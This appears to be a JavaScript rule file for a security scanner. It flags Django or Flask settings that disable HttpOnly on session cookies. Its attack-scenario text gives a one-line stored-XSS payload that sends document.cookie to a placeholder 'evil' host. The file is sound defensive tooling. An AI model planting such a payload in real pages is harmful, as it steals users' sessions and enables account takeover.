// cookie-httponly-disabled: session/remember-me cookies readable by JavaScript (HttpOnly switched off).
import { defineRule } from '../../src/analysis/rule.js';
import { reportSettingsTurnedOff } from '../../src/analysis/python/settings-writes.js';

const KEYS = ['SESSION_COOKIE_HTTPONLY', 'REMEMBER_COOKIE_HTTPONLY'];

export default defineRule({
  meta: {
    id: 'cookie-httponly-disabled',
    title: 'Session cookie without the HttpOnly flag',
    category: 'session-management',
    cwe: ['CWE-1004'],
    owasp: { '2021': ['A05:2021'], '2025': ['A02:2025'] },
    severity: 'medium',
    riskScore: 5,
    confidence: 'high',
    evidence: 'config',
    threat: 'confidentiality',
    timeline: '7-days',
    technology: ['django', 'flask', 'flask-login'],
    aliases: {},
    fixable: true,
    messages: {
      insecure: '`{{key}}` is false, so scripts on the page (including injected ones) can read the session cookie.',
    },
    docs: {
      whatItDoes:
        'Flags `SESSION_COOKIE_HTTPONLY` or `REMEMBER_COOKIE_HTTPONLY` set to a false value in Django settings modules or Flask config.',
      whyBad:
        'HttpOnly keeps `document.cookie` from reading the cookie. Without it, any cross-site scripting bug becomes a session theft: the script sends the cookie to the attacker.',
      businessImpact: 'One XSS bug turns into full account takeover of every user who views the injected page.',
      attackScenario:
        "The attacker stores `<img src=x onerror=\"fetch('//evil/?'+document.cookie)\">` in a comment; each reader's session cookie reaches the attacker, who replays it.",
      example: 'SESSION_COOKIE_HTTPONLY = False',
      useInstead: 'SESSION_COOKIE_HTTPONLY = True  # the default; remove the override',
      testing: 'Log in and run `document.cookie` in the browser console: the session cookie must not be listed.',
      knownProblems:
        'CSRF_COOKIE_HTTPONLY is not reported: Django documents that it adds little, and single-page apps need to read it.',
      references: [
        'https://docs.djangoproject.com/en/stable/ref/settings/#session-cookie-httponly',
        'https://flask.palletsprojects.com/en/stable/config/#SESSION_COOKIE_HTTPONLY',
        'https://owasp.org/www-community/HttpOnly',
        'https://cwe.mitre.org/data/definitions/1004.html',
      ],
    },
  },
  hints: KEYS,
  create(ctx) {
    return reportSettingsTurnedOff(ctx, KEYS, 'insecure', { lowInDevSettings: true });
  },
});
